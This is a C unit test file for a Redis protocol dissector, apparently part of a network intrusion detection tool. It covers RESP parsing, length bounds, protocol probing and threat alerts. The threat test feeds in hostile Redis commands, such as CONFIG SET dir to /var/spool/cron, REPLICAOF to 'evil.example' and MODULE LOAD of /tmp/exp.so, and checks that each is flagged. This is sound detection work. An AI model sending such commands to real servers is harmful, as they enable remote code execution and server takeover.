/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The Redis dissector: RESP arrays and inline commands split at every byte,
 * the attack commands against their benign near-misses, hostile lengths.
 */
#include "unit.h"
#include "l7_record.h"
#include "banned.h"

static const struct bh_net_dissector *redis(void)
{
	return l7_find("redis");
}

static void test_redis_commands(void **state)
{
	struct bh_net_flow_info fl = l7_flow(6379);
	static const struct l7_msg m[] = {
		L7_MSG(BH_NET_TO_SERVER, "*2\r\n$5\r\nHELLO\r\n$1\r\n3\r\n"),
		L7_MSG(BH_NET_TO_CLIENT, "%1\r\n+server\r\n+redis\r\n"),
		L7_MSG(BH_NET_TO_SERVER, "*3\r\n$3\r\nset\r\n$5\r\nmy\r\nk\r\n$0\r\n\r\n"),
		L7_MSG(BH_NET_TO_CLIENT, "+OK\r\n"),
		L7_MSG(BH_NET_TO_SERVER, "PING\r\n  get   key1 \r\n\r\n*0\r\n*-1\r\n"),
		L7_MSG(BH_NET_TO_SERVER, "*1\r\n$4\r\nQUIT\r\n"),
	};

	(void)state;
	l7_check(redis(), &fl, m, 6,
		 "C cmd HELLO|3\n"
		 "C cmd SET|my\\x0d\\x0ak\n"
		 "C cmd PING|\n"
		 "C cmd GET|key1\n"
		 "C cmd QUIT|\n");
}

static void test_redis_threats(void **state)
{
	struct bh_net_flow_info fl = l7_flow(6379);
	static const struct l7_msg bad[] = {
		L7_MSG(BH_NET_TO_SERVER, "*4\r\n$6\r\nconfig\r\n$3\r\nset\r\n$3\r\nDIR\r\n"
					 "$15\r\n/var/spool/cron\r\n"),
		L7_MSG(BH_NET_TO_SERVER, "config set maxmemory 1 dbfilename root\r\n"),
		L7_MSG(BH_NET_TO_SERVER,
		       "*3\r\n$7\r\nSLAVEOF\r\n$9\r\n10.9.9.9\r\r\n$4\r\n6379\r\n"),
		L7_MSG(BH_NET_TO_SERVER, "replicaof evil.example 21000\r\n"),
		L7_MSG(BH_NET_TO_SERVER,
		       "*3\r\n$6\r\nMODULE\r\n$4\r\nload\r\n$11\r\n/tmp/exp.so\r\n"),
		L7_MSG(BH_NET_TO_SERVER, "MODULE LOAD /tmp/m.so arg1 arg2\r\n"),
	};
	static const struct l7_msg benign[] = {
		L7_MSG(BH_NET_TO_SERVER, "*3\r\n$6\r\nCONFIG\r\n$3\r\nGET\r\n$3\r\ndir\r\n"),
		L7_MSG(BH_NET_TO_SERVER, "config set maxmemory dir\r\n"),
		L7_MSG(BH_NET_TO_SERVER, "config set dirx /tmp\r\n"),
		L7_MSG(BH_NET_TO_SERVER, "*3\r\n$9\r\nREPLICAOF\r\n$2\r\nno\r\n$3\r\none\r\n"),
		L7_MSG(BH_NET_TO_SERVER, "SLAVEOF NO ONE\r\n"),
		L7_MSG(BH_NET_TO_SERVER, "*2\r\n$6\r\nMODULE\r\n$4\r\nLIST\r\n"),
		L7_MSG(BH_NET_TO_SERVER, "SET dir /tmp\r\n"),
	};

	(void)state;
	l7_check(redis(), &fl, bad, 6,
		 "C cmd CONFIG|set\n"
		 "C threat BH-NET-REDIS-CONFIG-DIR CONFIG SET dir/dbfilename\n"
		 "C cmd CONFIG|set\n"
		 "C threat BH-NET-REDIS-CONFIG-DIR CONFIG SET dir/dbfilename\n"
		 "C cmd SLAVEOF|10.9.9.9\\x0d\n"
		 "C threat BH-NET-REDIS-REPLICAOF SLAVEOF 10.9.9.9\\x0d\n"
		 "C cmd REPLICAOF|evil.example\n"
		 "C threat BH-NET-REDIS-REPLICAOF REPLICAOF evil.example\n"
		 "C cmd MODULE|load\n"
		 "C threat BH-NET-REDIS-MODULE-LOAD MODULE LOAD /tmp/exp.so\n"
		 "C cmd MODULE|LOAD\n"
		 "C threat BH-NET-REDIS-MODULE-LOAD MODULE LOAD /tmp/m.so\n");
	l7_check(redis(), &fl, benign, 7,
		 "C cmd CONFIG|GET\n"
		 "C cmd CONFIG|set\n"
		 "C cmd CONFIG|set\n"
		 "C cmd REPLICAOF|no\n"
		 "C cmd SLAVEOF|NO\n"
		 "C cmd MODULE|LIST\n"
		 "C cmd SET|dir\n");
}

static void test_redis_bounds(void **state)
{
	struct bh_net_flow_info fl = l7_flow(6379);
	static struct l7_log log;
	char big[600];

	(void)state;
	/* a long argument is cut at 256 bytes; the command still ends right */
	memset(big, 'a', sizeof(big));
	char msg[800];
	int n = snprintf(msg, sizeof(msg),
			 "*2\r\n$3\r\nGET\r\n$600\r\n%.600s\r\n*1\r\n$4\r\nPING\r\n", big);
	struct l7_msg m[] = { { BH_NET_TO_SERVER, msg, (size_t)n } };
	l7_run(redis(), &fl, m, 1, 0, false, &log);
	assert_int_equal(strlen(log.buf), strlen("C cmd GET|\n") + 256 + strlen("C cmd PING|\n"));
	assert_non_null(strstr(log.buf, "C cmd PING|\n"));

	static const char *const bad[] = {
		"*2\r\n$3\r\nGET\r\n$99999999999\r\n", /* over 512 MiB */
		"*2\r\n$3\r\nGET\r\n$536870913\r\n",   /* 512 MiB + 1 */
		"*99999999999\r\n",		       /* over INT_MAX elements */
		"*2\r\n$3\r\nGET\r\n:1\r\n",	       /* not a bulk string */
		"*2\r\n$3\r\nGETX\r\n",		       /* no CRLF after the bulk */
		"*x\r\n",
		"*2\r\n$-5\r\n",
		"*2\r\n$\r\n",
	};
	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		struct l7_msg b[] = { { BH_NET_TO_SERVER, bad[i], strlen(bad[i]) } };
		l7_run(redis(), &fl, b, 1, 0, false, &log);
		if (!strstr(log.buf, "MALFORMED"))
			fail_msg("'%s' accepted: %s", bad[i], log.buf);
	}
	/* a header line longer than a line's bound */
	char longline[2000];
	memset(longline, '1', sizeof(longline));
	longline[0] = '*';
	struct l7_msg l[] = { { BH_NET_TO_SERVER, longline, sizeof(longline) },
			      { BH_NET_TO_SERVER, "\r\n", 2 } };
	l7_run(redis(), &fl, l, 2, 0, false, &log);
	assert_string_equal(log.buf, "MALFORMED\n");
}

static void test_redis_probe(void **state)
{
	const struct bh_net_dissector *d = redis();

	(void)state;
	assert_int_equal(l7_probe(d, BH_NET_TO_SERVER, "*1\r\n$4\r\nPING\r\n", 14),
			 BH_NET_PROBE_YES);
	assert_int_equal(l7_probe(d, BH_NET_TO_SERVER, "*1\r\n$4\r\nPI", 10),
			 BH_NET_PROBE_NEED_MORE);
	assert_int_equal(l7_probe(d, BH_NET_TO_SERVER, "*1\r\n$4\r\n\x01\x02\x03\x04\r\n", 14),
			 BH_NET_PROBE_NO);
	assert_int_equal(l7_probe(d, BH_NET_TO_SERVER, "PING\r\n", 6), BH_NET_PROBE_MAYBE);
	assert_int_equal(l7_probe(d, BH_NET_TO_SERVER, "\x16\x03\x01", 3), BH_NET_PROBE_NO);
	assert_int_equal(l7_probe(d, BH_NET_TO_CLIENT, "+OK\r\n", 5), BH_NET_PROBE_MAYBE);
	assert_int_equal(l7_probe(d, BH_NET_TO_CLIENT, "SSH-2.0-x\r\n", 11), BH_NET_PROBE_NO);
}

/* redis-cli 7.0 against redis-server 7.0 (tests/data/l7/record.sh) */
static void test_redis_recorded(void **state)
{
	struct bh_net_flow_info fl = l7_flow(16379);
	struct l7_msg m[32];
	size_t n = l7_conv_load("redis", 0, m, 32);

	(void)state;
	assert_int_equal(l7_probe(redis(), BH_NET_TO_SERVER, m[0].p, m[0].n), BH_NET_PROBE_YES);
	l7_check(redis(), &fl, m, n,
		 "C cmd COMMAND|DOCS\n"
		 "C cmd SET|greeting\n"
		 "C cmd GET|greeting\n"
		 "C cmd CONFIG|GET\n"
		 "C cmd CONFIG|SET\n"
		 "C threat BH-NET-REDIS-CONFIG-DIR CONFIG SET dir/dbfilename\n");
	l7_conv_free(m, n);
	n = l7_conv_load("redis-resp3", 0, m, 32);
	l7_check(redis(), &fl, m, n, "C cmd HELLO|3\nC cmd PING|\n");
	l7_conv_free(m, n);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_redis_commands), cmocka_unit_test(test_redis_threats),
		cmocka_unit_test(test_redis_bounds),   cmocka_unit_test(test_redis_probe),
		cmocka_unit_test(test_redis_recorded),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
